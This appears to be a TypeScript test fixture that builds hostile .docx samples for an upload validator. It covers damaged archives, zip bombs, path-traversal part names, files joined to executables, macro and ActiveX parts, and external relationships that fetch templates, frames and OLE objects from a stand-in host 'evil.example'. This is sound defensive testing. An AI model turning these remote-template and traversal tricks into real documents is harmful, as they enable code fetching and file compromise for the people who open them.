import { randomBytes } from 'node:crypto';
import { doc, docx, docxParts, pdf, relationships, wordType } from '../../support/documents';
import { type ZipEntry, zip } from '../../support/zip';
import { cuts, type Hostile, patched } from './hostile';

function hostile(what: string, data: Buffer, because: Hostile['because']): Hostile {
  return { what: `a .docx ${what}`, name: 'cv.docx', data, because };
}

/** The smallest document and more parts, or parts that take the place of its own. */
function changed(changes: Record<string, string | Buffer>): Buffer {
  return zip(docxParts(changes));
}

function withEntries(...more: ZipEntry[]): Buffer {
  return zip([...docxParts(), ...more]);
}

function withMain(main: string): Buffer {
  return zip(docxParts({}, main));
}

const rels = (type: string, target: string) =>
  changed({ 'word/_rels/settings.xml.rels': relationships([type, target, 'External']) });
const endRecord = (at: number, value: number) =>
  patched(docx, (copy) => copy.writeUInt32LE(value, docx.length - 22 + at));
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);

const broken: Hostile[] = [
  ...cuts(docx, 20).map(({ at, data }) => hostile(`cut after ${at} bytes`, data, 'damaged')),
  hostile('whose list begins elsewhere', endRecord(16, 7), 'damaged'),
  hostile('whose list is too long', endRecord(12, 0xfffff), 'damaged'),
  hostile(
    'with a wrong checksum',
    patched(docx, (copy) => copy.fill(1, 40, 60)),
    'damaged',
  ),
  hostile('without content types', zip(docxParts().slice(1)), 'damaged'),
  hostile('without relationships', zip(docxParts().filter(({ name }) => name !== '_rels/.rels')), 'damaged'),
  hostile('without a document', zip(docxParts().slice(0, 2)), 'damaged'),
  hostile('whose document is something else', changed({ 'word/document.xml': '<html/>' }), 'not a .docx'),
  hostile(
    'with a document type declaration',
    changed({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>' }),
    'damaged',
  ),
  hostile('packed in an unknown way', withEntries({ name: 'x', data: 'x', method: 9 }), 'damaged'),
  hostile('with the same part twice', withEntries({ name: 'word/document.xml', data: '<w:document/>' }), 'damaged'),
  hostile(
    'with the same part in capitals',
    withEntries({ name: 'WORD/DOCUMENT.XML', data: '<w:document/>' }),
    'damaged',
  ),
  hostile(
    'with a part of two names',
    withEntries({ name: 'word/a.xml', listedName: 'word/b.xml', data: 'x' }),
    'damaged',
  ),
  ...['../x.xml', '/x.xml', 'word/../../x.xml', 'C:/x.xml', 'word\\x.xml'].map((name) =>
    hostile(`with a part named ${name}`, withEntries({ name, data: 'x' }), 'damaged'),
  ),
  hostile('with an encrypted part', withEntries({ name: 'x', data: 'x', flags: 1 }), 'password'),
  hostile('that is encrypted', encrypted(), 'password'),
];

/** What Word makes of a document with a password: a compound file with a stream of this name. */
function encrypted(): Buffer {
  return Buffer.concat([doc.subarray(0, 1024), Buffer.from('EncryptedPackage\0', 'utf16le')]);
}

const bombs: Hostile[] = [
  hostile('that grows a thousandfold', changed({ 'word/media/a.bin': zeros(30) }), 'damaged'),
  hostile(
    'of 101 MB',
    withEntries({ name: 'a', data: randomBytes(1_200_000), method: 0 }, { name: 'b', data: zeros(101) }),
    'damaged',
  ),
  hostile(
    'whose document is too large',
    changed({ 'word/document.xml': Buffer.concat([Buffer.from('<w:document>'), zeros(65)]) }),
    'damaged',
  ),
  hostile('whose content types are a bomb', changed({ '[Content_Types].xml': zeros(9) }), 'damaged'),
  hostile('that lies about the size of its document', lyingSize(), 'damaged'),
  hostile('whose parts share their data', zip(docxParts(), { shared: true }), 'damaged'),
  hostile(
    'of 2001 parts',
    withEntries(...Array.from({ length: 1998 }, (_, index) => ({ name: `x${index}`, data: '' }))),
    'damaged',
  ),
];

function lyingSize(): Buffer {
  const parts = docxParts({ 'word/document.xml': Buffer.concat([Buffer.from('<w:document>'), zeros(9)]) });
  return zip(parts.map((part) => (part.name === 'word/document.xml' ? { ...part, listedSize: 100 } : part)));
}

const joined: Hostile[] = [
  hostile('behind a program', Buffer.concat([Buffer.from('MZ\x90\0'), docx]), 'not a .docx'),
  hostile('behind a PDF', Buffer.concat([pdf, docx]), 'not a .docx'),
  hostile('with a comment', zip(docxParts(), { comment: '<script>' }), 'damaged'),
  hostile('with a program behind it', Buffer.concat([docx, Buffer.from('MZ\x90\0')]), 'damaged'),
  hostile(
    'with a program between its parts',
    zip(docxParts().map((part) => ({ ...part, after: Buffer.alloc(100, 'MZ') }))),
    'joined',
  ),
  hostile(
    'with a program before its list',
    zip(docxParts().map((part, index) => ({ ...part, ...(index === 2 && { after: Buffer.alloc(25, 'M') }) }))),
    'joined',
  ),
];

const active: Hostile[] = [
  hostile('with macros', withMain('application/vnd.ms-word.document.macroEnabled.main+xml'), 'contains'),
  hostile('that is a template', withMain(wordType.replace('document.main', 'template.main')), 'not a .docx'),
  hostile(
    'that is a template with macros',
    withMain('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
    'contains',
  ),
  hostile(
    'that is a worksheet',
    withMain(wordType.replace('wordprocessingml.document', 'spreadsheetml.sheet')),
    'not a .docx',
  ),
  hostile(
    'that is a presentation',
    withMain(wordType.replace('wordprocessingml.document', 'presentationml.presentation')),
    'not a .docx',
  ),
  ...[
    'word/vbaProject.bin',
    'word/VBAPROJECT.BIN',
    'word/vbaData.xml',
    'word/activeX/activeX1.bin',
    'word/embeddings/a.exe',
    'word/media/a.js',
    'a.docm',
  ].map((name) => hostile(`with ${name}`, changed({ [name]: 'x' }), 'contains')),
  ...[
    ['attachedTemplate', 'https://evil.example/x.dotm'],
    ['attachedTemplate', '&#104;ttps://evil.example/x.dotm'],
    ['attachedTemplate', '\\\\evil.example\\x.dotm'],
    ['attachedTemplate', 'file://evil.example/x.dotm'],
    ['oleObject', 'mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html'],
    ['frame', 'http://evil.example/x.html'],
    ['subDocument', 'https://evil.example/x.docx'],
  ].map(([type = '', target = '']) =>
    hostile(`that fetches its ${type} from ${target}`, rels(type, target), 'contains'),
  ),
];

export const hostileDocxs: Hostile[] = [...broken, ...bombs, ...joined, ...active];
